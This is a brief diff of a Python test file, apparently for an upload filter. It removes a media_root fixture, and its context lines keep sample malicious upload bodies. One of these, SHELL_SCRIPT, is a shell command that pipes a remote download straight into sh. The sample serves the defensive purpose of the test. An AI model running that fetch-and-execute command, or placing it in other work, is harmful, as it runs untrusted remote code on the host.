@@ -39,12 +39,6 @@ PE_EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + 
 SHELL_SCRIPT = b"#!/bin/sh\ncurl https://example.org/x | sh\n"
 
 
-@pytest.fixture
-def media_root(settings, tmp_path):
-    settings.MEDIA_ROOT = tmp_path / "media"
-    return settings.MEDIA_ROOT
-
-
 def stored_files(media_root: Path) -> list[Path]:
     return [path for path in media_root.rglob("*") if path.is_file()] if media_root.exists() else []
 
